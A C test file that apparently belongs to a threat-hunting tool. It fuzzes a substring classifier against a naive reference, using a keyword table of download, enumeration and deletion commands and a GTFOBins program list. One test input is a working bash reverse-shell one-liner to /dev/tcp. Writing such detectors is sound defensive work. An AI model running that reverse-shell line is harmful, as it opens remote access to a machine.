// SPDX-License-Identifier: GPL-3.0-or-later
/* The notebook's matching against its own rule, written out: a tag for every
 * word that occurs anywhere. */
#include "classified.h"

static const struct {
	const char *category;
	const char *words[10];
} notebook[] = {
	{ "network connections/downloading",
		{ "wget", "curl", "urllib.urlopen" } },
	{ "file manipulation", { "chmod", "chattr", "touch", "cp", "mv", "ln",
				       "sed", "awk", "echo" } },
	{ "host enumeration", { "uname", "grep", "/proc/cpuinfo" } },
	{ "file/process deletion/killing", { "rm", "pkill" } },
	{ "archive/compression programs",
		{ "tar", "zip", "gzip", "bzip2", "lzma", "xz" } },
};

#define BINS_MAX 1024

static char bins[BINS_MAX][64];
static size_t n_bins;

/* The names of the shipped file, read by other means. */
static void load_bins(void)
{
	FILE *f = fopen("conf/hunt.d/gtfobins.tsv", "r");
	char line[4096];

	while (f && fgets(line, sizeof(line), f) && n_bins < BINS_MAX) {
		size_t len = strcspn(line, "\t");

		if (line[0] == '#' || line[len] != '\t' || line[len + 1] == '=')
			continue;
		memcpy(bins[n_bins], line, len);
		bins[n_bins++][len] = '\0';
	}
	if (f)
		fclose(f);
}

static void naive(const char *text, struct str *categories, struct str *found)
{
	str_reset(categories);
	str_reset(found);
	for (size_t i = 0; i < sizeof(notebook) / sizeof(notebook[0]); i++) {
		bool is_in = false;

		for (size_t j = 0; j < 10 && notebook[i].words[j]; j++)
			is_in |= strstr(text, notebook[i].words[j]) != NULL;
		if (is_in && categories->len)
			str_addc(categories, '|');
		if (is_in)
			str_addz(categories, notebook[i].category);
	}
	for (size_t i = 0; i < n_bins; i++) {
		if (!strstr(text, bins[i]))
			continue;
		if (found->len)
			str_addc(found, '|');
		str_addz(found, bins[i]);
	}
}

/* Pieces of words, words, and what joins them. */
static void add_piece(struct str *text, unsigned long long *seed)
{
	static const char letters[] = "abcdefghimnoprstuwxzRTE/ .-|;=_01";
	unsigned long long n = check_random(seed);
	const char *bin = bins[(n >> 32) % n_bins];

	switch (n % 6) {
	case 0:
		str_addz(text, bin);
		break;
	case 1:
		str_add(text, bin, (size_t)(n >> 8) % (strlen(bin) + 1));
		break;
	case 2:
		str_addz(text, notebook[(n >> 8) % 5].words[(n >> 16) % 2]);
		break;
	default:
		str_addc(text, letters[(n >> 8) % (sizeof(letters) - 1)]);
	}
}

static void compare(struct classified *c, const char *text, struct str *want_c,
	struct str *want_b)
{
	struct event_layer layer = {
		.depth = 1, .text = bytes_of(text), .is_text = true
	};

	classified_event(c, (const char *const[]){ "x", "tar zip", NULL });
	c->ev->layers = &layer;
	c->ev->n_layers = 1;
	classified_run(c);
	naive(text, want_c, want_b);
	CHECK_BYTES(classified_categories(c), str_bytes(want_c));
	CHECK_BYTES(classified_bins(c), str_bytes(want_b));
	/* The same from argv where nothing was hidden. */
	classified_event(c, (const char *const[]){ text, NULL });
	classified_run(c);
	CHECK_BYTES(classified_categories(c), str_bytes(want_c));
	CHECK_BYTES(classified_bins(c), str_bytes(want_b));
}

static void test_random(const struct classify_rules *rules)
{
	struct str text, want_c, want_b;
	unsigned long long seed = 7;
	struct classified c;

	classified_init(&c, rules);
	c.cf.match = CLASSIFY_SUBSTRING;
	str_init(&text, 1 << 16);
	str_init(&want_c, 1 << 16);
	str_init(&want_b, 1 << 16);
	check_start("10000 random texts");
	for (unsigned int i = 0; i < 10000; i++) {
		unsigned long long n = check_random(&seed) % 24;

		str_reset(&text);
		while (n--)
			add_piece(&text, &seed);
		compare(&c, str_z(&text), &want_c, &want_b);
	}
	check_start("what the notebook is known for");
	compare(&c, "bash -i >& /dev/tcp/1.2.3.4/1 0>&1", &want_c, &want_b);
	compare(&c, "export TERM=xterm; systemctl start nginx", &want_c,
		&want_b);
	compare(&c, "READY vulnerable normal", &want_c, &want_b);
	str_fini(&text);
	str_fini(&want_c);
	str_fini(&want_b);
	classified_fini(&c);
}

int main(void)
{
	struct rules *rules;
	struct str why;

	check.module = "classify_substring";
	load_bins();
	check_start("the shipped programs");
	CHECK_EQ(n_bins, 478);
	str_init(&why, 1 << 16);
	rules = rules_load("conf/hunt.d", "basic", &why);
	CHECK_Z(str_bytes(&why), "");
	if (CHECK(rules))
		test_random(rules->classify);
	rules_free(rules);
	str_fini(&why);
	return check_end();
}
